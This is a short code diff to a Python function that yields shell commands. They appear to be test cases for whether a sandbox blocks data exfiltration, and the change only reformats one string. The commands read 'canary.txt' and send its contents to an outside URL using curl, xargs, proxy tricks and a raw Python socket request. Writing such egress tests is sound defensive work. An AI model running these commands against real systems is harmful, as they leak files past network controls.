@@ -81,7 +81,8 @@ def attacks(port: int, outside: str) -> Iterator[tuple[str, dict[str, object]]]:
         f"find . -name canary.txt -exec curl -s -d @{{}} {url}/ ';'",
         f"cat canary.txt | xargs -I% curl -s {url}/%",
         f"curl -s --noproxy '' -x \"$http_proxy\" {url}/$(cat canary.txt)",
-        "python3 -c \"import os, socket, urllib.parse as u; a=u.urlsplit(os.environ['http_proxy']); "
+        'python3 -c "import os, socket, urllib.parse as u; '
+        "a=u.urlsplit(os.environ['http_proxy']); "
         "s=socket.create_connection((a.hostname, a.port), 2); "
         f"s.sendall(('GET {url}/'+open('canary.txt').read()+' HTTP/1.0\\r\\n\\r\\n').encode()); "
         's.recv(99)"',
